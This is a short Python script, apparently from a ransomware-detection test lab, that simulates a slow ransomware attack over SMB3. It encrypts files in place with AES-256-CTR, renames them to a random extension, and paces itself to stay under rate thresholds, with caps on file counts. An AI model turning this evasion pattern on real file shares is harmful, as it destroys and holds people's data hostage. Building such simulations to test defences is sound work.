#!/usr/bin/python3
"""A slow attack over SMB3, made to stay under rate thresholds: the classic encryption in place (the whole file,
AES-256-CTR) and a rename to one random 6-character extension chosen for this run, one file every SLOW_INTERVAL
seconds; no note.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
SLOW_INTERVAL seconds between files (default 4); SLOW_MAX files at most (default 12);
ATTACK_MAX_FILES (a lower limit wins); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start, one "encrypted FIRST_WRITE_MS DONE_MS PATH"
per file, "stopped MS REASON" when the server refuses, files_encrypted N.
"""

import os
import string
import sys
import time

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack, random_name  # noqa: E402


class Slow(Attack):
	def __init__(self):
		super().__init__()
		self.interval = float(os.environ.get("SLOW_INTERVAL", "4"))
		most = int(os.environ.get("SLOW_MAX", "12"))
		self.limit = most if self.limit is None else min(most, self.limit)
		self.ext = "." + random_name(6, string.ascii_lowercase + string.digits)

	def skip(self, name):
		return name.endswith(self.ext)

	def damage(self, path):
		return self.rewrite(path, lambda data: self.cipher().encrypt(data))

	def finish(self, path):
		self.rename_to(path, path + self.ext)

	def file(self, path):
		done = super().file(path)
		if done and not self.full():
			time.sleep(self.interval)
		return done


if __name__ == "__main__":
	sys.exit(Slow().run())
